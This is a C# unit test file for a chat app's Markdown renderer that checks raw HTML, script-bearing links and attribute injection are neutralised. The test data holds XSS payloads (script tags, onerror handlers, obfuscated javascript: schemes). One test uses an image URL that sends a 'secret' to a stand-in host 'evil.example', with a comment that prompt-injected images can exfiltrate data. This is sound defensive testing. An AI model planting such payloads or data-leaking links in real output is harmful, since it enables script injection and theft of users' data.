using AspireAi.Web.Chat;

namespace AspireAi.Tests.Web;

public sealed class MarkdownRendererTests
{
    private readonly MarkdownRenderer _markdown = new();

    [Fact]
    public void Renders_ordinary_markdown()
    {
        var html = _markdown.ToHtml("# Title\n\n**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet x = 1 < 2;\n```");

        Assert.Contains("<h1>Title</h1>", html, StringComparison.Ordinal);
        Assert.Contains("<strong>bold</strong>", html, StringComparison.Ordinal);
        Assert.Contains("<code>code</code>", html, StringComparison.Ordinal);
        Assert.Contains("<table>", html, StringComparison.Ordinal);
        Assert.Contains("let x = 1 &lt; 2;", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("text <script>alert(1)</script> inline")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<div onclick=\"alert(1)\">block</div>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("<a href=\"javascript:alert(1)\">raw link</a>")]
    public void Raw_html_is_shown_as_text_never_passed_through(string markdown)
    {
        var html = _markdown.ToHtml(markdown);

        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<div", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<iframe", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<a ", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[click](javascript:alert(1))")]
    [InlineData("[click](JaVaScRiPt:alert(1))")]
    [InlineData("[click](java&#x09;script:alert(1))")]
    [InlineData("[click](&#106;avascript:alert(1))")]
    [InlineData("[click](vbscript:msgbox(1))")]
    [InlineData("[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("[click][ref]\n\n[ref]: javascript:alert(1)")]
    [InlineData("[click](/relative/path)")]
    public void Links_other_than_http_https_and_mailto_lose_their_target_but_keep_their_text(string markdown)
    {
        var html = _markdown.ToHtml(markdown);

        Assert.DoesNotContain("<a", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("href", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("click", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("<data:text/html,hi>")]
    public void Autolinks_with_other_schemes_become_text(string markdown)
    {
        var html = _markdown.ToHtml(markdown);

        Assert.DoesNotContain("<a", html, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("[site](https://example.com/a?b=c)", "https://example.com/a?b=c")]
    [InlineData("[site](http://example.com)", "http://example.com")]
    [InlineData("[mail](mailto:someone@example.com)", "mailto:someone@example.com")]
    [InlineData("see https://example.com/page", "https://example.com/page")]
    [InlineData("<https://example.com/auto>", "https://example.com/auto")]
    public void Safe_links_stay_links_and_open_without_the_opener(string markdown, string href)
    {
        var html = _markdown.ToHtml(markdown);

        Assert.Contains($"href=\"{href.Replace("&", "&amp;", StringComparison.Ordinal)}\"", html, StringComparison.Ordinal);
        if (!href.StartsWith("mailto:", StringComparison.Ordinal) && markdown.StartsWith('['))
        {
            Assert.Contains("rel=\"nofollow noopener noreferrer\"", html, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Images_are_not_loaded_but_linked()
    {
        // An image URL is fetched without a click, so a prompt-injected image could carry data out.
        var html = _markdown.ToHtml("![the chart](https://evil.example/collect?secret=42)");

        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("<a href=\"https://evil.example/collect?secret=42\"", html, StringComparison.Ordinal);
        Assert.Contains("the chart", html, StringComparison.Ordinal);
    }

    [Fact]
    public void No_extension_lets_text_add_attributes()
    {
        var html = _markdown.ToHtml("# Heading {onclick=\"alert(1)\"}\n\n[x](https://example.com){onmouseover=alert(1)}");

        Assert.DoesNotMatch("<[^>]*onclick", html);
        Assert.DoesNotMatch("<[^>]*onmouseover", html);
    }

    [Fact]
    public void Empty_or_missing_content_renders_nothing()
    {
        Assert.Equal(string.Empty, _markdown.ToHtml(null));
        Assert.Equal(string.Empty, _markdown.ToHtml(string.Empty));
    }
}
